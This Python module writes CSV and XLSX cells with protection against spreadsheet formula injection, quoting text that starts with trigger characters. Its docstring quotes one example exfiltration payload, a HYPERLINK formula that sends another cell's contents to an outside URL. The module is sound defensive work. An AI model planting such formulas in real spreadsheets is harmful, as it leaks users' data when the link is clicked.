"""The cells of every CSV and XLSX file the project writes, in one place.

Datasets, the template, ``roster.csv``/``roster.xlsx`` from ``matcher solve``
and the service's roster export all write their rows through
:func:`csv_bytes` and :func:`append_row`, so how a cell is written (its text,
its type) is decided here once.

Formula injection: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is a live formula to Excel and LibreOffice (a need
titled ``=HYPERLINK("http://...?x="&D2,"open")`` would send other cells away
when a coordinator clicks).  Following the OWASP CSV-injection guidance such
text is written as text: in CSV with a single quote in front
(:func:`escape_formula`; the CSV reader takes it off again with
:func:`unescape_formula`, so data read back is unchanged), in XLSX as a string
cell with Excel's quote-prefix style (the value itself is unchanged).
Numbers are never escaped: ``-3`` in a number cell is a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.worksheet.worksheet import Worksheet

from matcher.io.cells import cell_text

__all__ = [
    "FORMULA_TRIGGERS",
    "add_sheet",
    "append_row",
    "autofit",
    "csv_bytes",
    "escape_formula",
    "is_formula_like",
    "new_workbook",
    "unescape_formula",
    "workbook_bytes",
]


FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a text cell as a formula."""

QUOTE = "'"


def is_formula_like(text: str) -> bool:
    """Whether ``text`` needs protecting: its first character after any quotes is a trigger.

    Text that already starts with quotes before a trigger (``'=x``) counts too,
    so that :func:`unescape_formula` can always undo :func:`escape_formula`.
    """
    return text.lstrip(QUOTE)[:1] in FORMULA_TRIGGERS


def escape_formula(text: str) -> str:
    """Text as written in a CSV cell: a quote in front when it could start a formula.

    Parameters
    ----------
    text
        The cell's text.

    Returns
    -------
    str
        ``'`` + ``text`` when :func:`is_formula_like`, else ``text``.

    Examples
    --------
    >>> escape_formula("=1+1"), escape_formula("-x"), escape_formula("张三")
    ("'=1+1", "'-x", '张三')
    """
    return QUOTE + text if is_formula_like(text) else text


def unescape_formula(text: str) -> str:
    """The text of a CSV cell as written by :func:`escape_formula`: the quote taken off.

    Only one quote, and only in front of a formula trigger (possibly after
    more quotes), so ``unescape_formula(escape_formula(t)) == t`` for every
    text and ordinary text that starts with a quote is left alone.

    Parameters
    ----------
    text
        A CSV cell's text.

    Returns
    -------
    str
    """
    if text.startswith(QUOTE) and is_formula_like(text):
        return text[1:]
    return text


def _csv_cell(value: Any) -> str:
    """A value as a CSV cell: text escaped, numbers and dates as their text."""
    if value is None:
        return ""
    if isinstance(value, str):
        return escape_formula(value)
    return cell_text(value)


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """A CSV file as UTF-8 with BOM (so Excel opens Chinese text right), CRLF lines.

    CRLF (RFC 4180, as Excel writes) also makes :mod:`csv` quote a cell that
    holds a lone CR; with LF lines it would not, and the row would break.

    Parameters
    ----------
    header
        The header row.
    rows
        The data rows; None is an empty cell, numbers are written as numbers
        and text is protected against formula injection (:func:`escape_formula`).
    Returns
    -------
    bytes
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([_csv_cell(value) for value in header])
    for row in rows:
        writer.writerow([_csv_cell(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def new_workbook() -> Workbook:
    """An openpyxl workbook without its default empty sheet."""
    book = Workbook()
    book.remove(book.active)
    return book


def append_row(sheet: Worksheet, values: Sequence[Any]) -> None:
    """Append one row of values to an openpyxl worksheet.

    Parameters
    ----------
    sheet
        The worksheet.
    values
        Text, numbers, booleans or None (an empty cell).  Text that could start
        a formula (:func:`is_formula_like`) is stored as a string cell with
        Excel's quote prefix: openpyxl would otherwise store text starting
        with ``=`` as a formula, and Excel turns a ``+``/``-``/``@`` cell into
        one when it is edited.
    """
    sheet.append(list(values))
    risky = [
        column
        for column, value in enumerate(values, start=1)
        if isinstance(value, str) and is_formula_like(value)
    ]
    if not risky:
        return
    # max_row scans every cell of the sheet: asked only for a row that needs it, or
    # writing n rows would cost n * n
    row = sheet.max_row
    for column in risky:
        cell = sheet.cell(row=row, column=column)
        cell.data_type = "s"
        cell.quotePrefix = True


def add_sheet(
    book: Workbook, title: str, header: Sequence[str], rows: Iterable[Sequence[Any]]
) -> Worksheet:
    """Add a sheet with a bold, frozen header row and columns as wide as their text.

    Parameters
    ----------
    book
        The workbook.
    title
        The sheet's name.
    header
        The header row.
    rows
        The data rows (see :func:`append_row`).

    Returns
    -------
    Worksheet
        The new sheet.
    """
    sheet = book.create_sheet(title)
    append_row(sheet, header)
    for values in rows:
        append_row(sheet, values)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    sheet.freeze_panes = "A2"
    autofit(sheet)
    return sheet


def workbook_bytes(book: Workbook) -> bytes:
    """The ``.xlsx`` file of an openpyxl workbook."""
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def autofit(sheet: Worksheet) -> None:
    """Widen the columns of an openpyxl worksheet to their contents (roughly).

    Characters from CJK on count twice: they are about twice as wide.
    """
    for column in sheet.columns:
        width = max((len(cell_text(cell.value)) for cell in column), default=0)
        wide = max(
            (sum(1 for ch in cell_text(cell.value) if ord(ch) > 0x2E80) for cell in column),
            default=0,
        )
        sheet.column_dimensions[column[0].column_letter].width = min(60, width + wide + 2)
